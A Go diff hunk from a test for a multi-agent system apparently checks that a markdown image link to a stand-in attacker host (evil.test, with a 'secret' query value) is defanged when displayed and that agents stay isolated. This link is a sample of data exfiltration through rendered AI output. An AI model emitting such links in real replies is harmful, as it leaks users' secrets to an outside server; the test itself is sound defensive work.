@@ -38,7 +38,8 @@ func TestAgentAnswerLinks(t *testing.T) {
 	const answer = "see ![x](https://evil.test/p.png?d=secret)"
 	const shown = "see ![x] (hxxps://evil[.]test/…)"
 	r := start(t, with(outside(t), echo(t)),
-		orch("go", []call{dispatch("a", "do-a https://evil.test/m", "note.echo"), dispatch("b", "do-b https://evil.test/m", "web.read")}, results("wait_all"), "done"),
+		orch("go", []call{dispatch("a", "do-a https://evil.test/m", "note.echo"), dispatch("b", "do-b https://evil.test/m", "web.read")},
+			results("wait_all"), "done"),
 		agent("do-a", use("note.echo", "x"), answer), agent("do-b", use("web.read", "x"), answer))
 	reply := r.send("go")
 	require.Equal(t, answer, reply.Agents[0].Answer, "it has read nothing of others")
